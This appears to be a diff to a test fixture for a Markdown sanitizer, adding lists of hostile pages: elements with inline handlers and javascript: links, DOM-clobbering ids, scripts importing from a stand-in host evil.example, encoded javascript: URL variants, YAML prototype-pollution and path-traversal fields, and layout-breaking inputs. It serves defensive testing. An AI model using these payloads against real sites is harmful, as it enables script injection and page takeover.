@@ -1,5 +1,114 @@
+/** A page: its name, what it contains, and parts of the warnings that name each loss. */
+type HostilePage = [name: string, markdown: string, ...lost: string[]];
+
+/** Elements that HTML pages have and untrusted pages have not. */
+const removedElements = (
+  'acronym animate applet area bgsound blink canvas dialog dir element fencedframe fieldset font foreignobject frame ' +
+  'geolocation image isindex keygen label layer legend listing map menu meter multicol nextid nobr noembed noframes ' +
+  'optgroup output param permission portal progress rb rtc select selectedcontent selectmenu set shadow slot spacer track ' +
+  'use webview xml'
+)
+  .split(' ')
+  .map(
+    (name): HostilePage => [
+      `element-${name}`,
+      `a\n\n<${name} onclick="hacked=1" src="https://evil.example/x" href="javascript:hacked=1"></${name}>\n\nb`,
+      // Parsers read it as <img>, and drop a frame without its set.
+      ...(name === 'image' ? ['`onClick'] : [`\`<${name}>\``]),
+    ],
+  );
+
+/** Handlers that need no click, by the attribute. */
+const removedHandlers = (
+  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforematch onbeforetoggle ' +
+  'onbeforeunload onbegin onblur oncancel oncontentvisibilityautostatechange oncopy oncut ondrag onend onfocusin onformdata ' +
+  'onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onload onmessage onmousemove onpageshow ' +
+  'onpaste onpointerenter onpopstate onrepeat onresize onscroll onscrollend onscrollsnapchange onsearch onselectionchange ' +
+  'onstorage onsubmit ontouchstart ontransitionend ontransitionrun onunload onwebkitanimationend onwheel'
+)
+  .split(' ')
+  .map(
+    (name): HostilePage => [
+      `handler-${name}`,
+      `text <b ${name}="hacked=1" tabindex="0">b</b>`,
+      '="hacked=1"` of `<b>`',
+    ],
+  );
+
+/** Names of properties of documents, windows and forms, which an element with this id could replace. */
+const clobbered = (
+  'attributes body childNodes children className cookie constructor createElement currentScript customElements defaultView ' +
+  'document documentElement domain firstChild forms getElementById hasOwnProperty head history images implementation ' +
+  'innerHTML isConnected location localStorage navigation navigator nodeName opener ownerDocument parent parentNode ' +
+  'querySelector removeChild scripts self sessionStorage setAttribute top toString valueOf window'
+)
+  .split(' ')
+  .map(
+    (name): HostilePage => [
+      `clobber-${name}`,
+      `text <a id="${name}" href="/docs/harmless">a</a> <img name="${name}" src="/img/a.png" alt="">\n\n## Heading {#${name}}`,
+      `\`name="${name}"\``,
+    ],
+  );
+
+/** Data that search engines and scripts could take for that of the site. */
+const dataBlocks = (
+  'application/ld+json application/json importmap speculationrules module text/javascript text/x-template ' +
+  'application/xhtml+xml text/markdown webbundle'
+)
+  .split(' ')
+  .map(
+    (type): HostilePage => [
+      `data-${type.replace(/\W/g, '-')}`,
+      `a <script type="${type}">{"@context":"https://schema.org","imports":{"react":"https://evil.example/x.js"}}</script> b`,
+      '`<script>`',
+    ],
+  );
+
+/** Addresses that run or load something, in the ways that parsers have been misled. */
+const addresses: HostilePage[] = (
+  [
+    ['spaces', '  javascript:hacked=1'],
+    ['tab', 'java&Tab;script:hacked=1'],
+    ['return', 'java&#13;script:hacked=1'],
+    ['zero-padded', '&#0000106avascript:hacked=1'],
+    ['no-semicolon', '&#106avascript:hacked=1'],
+    ['comment', 'javascript://evil.example/%0ahacked=1'],
+    ['template', 'javascript:`${hacked=1}`'],
+    ['view-source', 'view-source:javascript:hacked=1'],
+    ['jar', 'jar:javascript:hacked=1!/'],
+    ['feed', 'feed:javascript:hacked=1'],
+    ['livescript', 'livescript:hacked=1'],
+    ['mocha', 'mocha:hacked=1'],
+    ['filesystem', 'filesystem:https://example.org/temporary/x'],
+    ['about', 'about:blank#javascript:hacked=1'],
+    ['intent', 'intent://evil.example#Intent;end'],
+    ['ms', 'ms-settings:x'],
+    ['ftp', 'ftp://evil.example/x'],
+    ['ws', 'wss://evil.example/x'],
+    ['data-empty', 'data:,hacked'],
+    ['data-svg', 'data:image/svg+xml;base64,PHN2Zz4='],
+    ['data-xml', 'data:application/xml,x'],
+    ['chrome', 'chrome://settings'],
+    ['resource', 'resource://gre/x'],
+  ] as const
+).map(([name, href]) => [`address-${name}`, `text <a href="${href}">a</a>`, '`href="']);
+
 /** What a stranger could write in Markdown, with parts of the warnings that name each loss. All of it sets `hacked`. */
-export const hostilePages: [name: string, markdown: string, ...lost: string[]][] = [
+export const hostilePages: HostilePage[] = [
+  ...removedElements,
+  ...removedHandlers,
+  ...clobbered,
+  ...dataBlocks,
+  ...addresses,
+  // Layout
+  ['img-border', '<img border="3000" src="/img/a.png" alt="a">', '`border'],
+  ['img-hspace', '<img hspace="3000" src="/img/a.png" alt="a">', '`hSpace'],
+  ['img-vspace', '<img vspace="3000" src="/img/a.png" alt="a">', '`vSpace'],
+  ['hr-width', '<hr width="99999">', '`width'],
+  ['hr-size', '<hr size="99999">', '`size'],
+  ['cell-nowrap', '<table><tbody><tr><td nowrap>a</td></tr></tbody></table>', '`noWrap'],
+  ['cell-padding', '<table cellpadding="3000"><tbody><tr><td>a</td></tr></tbody></table>', '`cellPadding='],
   // Elements
   ['script', '<script>hacked = 1</script>', '`<script>`'],
   ['script-src', 'a <script src="https://evil.example/x.js"></script> b', '`<script>`'],
@@ -125,4 +234,51 @@ export const hostileFields: [name: string, yaml: string, ...lost: string[]][] = 
   ['tag-name', 'tags: [a, "..", "../.."]', '`tags[1]` leads out', '`tags[2]` leads out'],
   ['yaml', 'title: !!js/function "function () { hacked = 1 }"'],
   ['prototype', '__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }'],
+];
+
+const longWord = 'w'.repeat(20_000);
+
+/** Pages that try to leave the column of the article. */
+export const widePages: [name: string, markdown: string][] = [
+  ['word', longWord],
+  ['word-heading', `## ${longWord}`],
+  ['word-title', `# ${longWord}`],
+  ['word-list', `- ${longWord}`],
+  ['word-quote', `> ${longWord}`],
+  ['word-table', `| a | b |\n|---|---|\n| ${longWord} | b |`],
+  ['word-code', `\`${longWord}\``],
+  ['word-block', `\`\`\`\n${longWord}\n\`\`\``],
+  ['word-link', `[${longWord}](/docs/harmless)`],
+  ['word-kbd', `<kbd>${longWord}</kbd>`],
+  ['word-summary', `<details open><summary>${longWord}</summary>${longWord}</details>`],
+  ['word-caption', `<figure><img src="/img/a.png" alt=""><figcaption>${longWord}</figcaption></figure>`],
+  ['word-definition', `<dl><dt>${longWord}</dt><dd>${longWord}</dd></dl>`],
+  ['word-admonition', `:::note[${longWord}]\n${longWord}\n:::`],
+  ['word-footnote', `a[^1]\n\n[^1]: ${longWord}`],
+  ['word-ruby', `<ruby>${longWord}<rt>${longWord}</rt></ruby>`],
+  ['word-alt', `![${longWord}](https://127.0.0.1:1/none.png)`],
+  ['word-no-break', `${'w\u00a0'.repeat(10_000)}`],
+  ['word-joined', `${'w\u2060'.repeat(10_000)}`],
+  ['img-border', '<img border="3000" src="/img/a.png" alt="a">'],
+  ['img-space', '<img hspace="3000" vspace="3000" src="/img/a.png" alt="a">'],
+  ['img-width', '<img width="99999" height="10" src="/img/a.png" alt="a">'],
+  ['img-align', '<img align="right" hspace="3000" src="/img/a.png" alt="a">'],
+  ['hr-width', '<hr width="99999">'],
+  ['hr-size', '<hr size="99999" width="99999" noshade>'],
+  ['table-width', '<table width="99999"><tr><td>a</td></tr></table>'],
+  ['table-border', '<table border="3000" cellpadding="3000" cellspacing="3000"><tr><td>a</td></tr></table>'],
+  ['cell-width', '<table><tr><td width="99999" height="9" nowrap>a</td></tr></table>'],
+  ['column-width', '<table><colgroup><col width="99999" span="9"></colgroup><tr><td>a</td></tr></table>'],
+  ['cell-span', '<table><tr><td colspan="1000">a</td><td rowspan="65534">b</td></tr></table>'],
+  ['list-start', '<ol start="999999999999"><li>a</li></ol>'],
+  ['nested-lists', '- a\n'.replace('- a', '- '.repeat(200).concat('a'))],
+  ['nested-quotes', `${'> '.repeat(200)}a`],
+  ['nested-details', `${'<details open><summary>a</summary>'.repeat(100)}${'</details>'.repeat(100)}`],
+  ['figure-table', `<figure><table width="99999"><tr><td>${longWord}</td></tr></table></figure>`],
+  ['pre', `<pre width="99999">${longWord}</pre>`],
+  ['samp', `<samp>${longWord}</samp><var>${longWord}</var><small>${longWord}</small>`],
+  ['emphasis', `**${longWord}** *${longWord}* ~~${longWord}~~`],
+  ['sub', `<sub>${longWord}</sub><sup>${longWord}</sup>`],
+  ['marks', `${'a\u0300'.repeat(1)}${'\u0301'.repeat(500)}`],
+  ['direction', `<bdo dir="rtl">${longWord}</bdo>`],
 ];
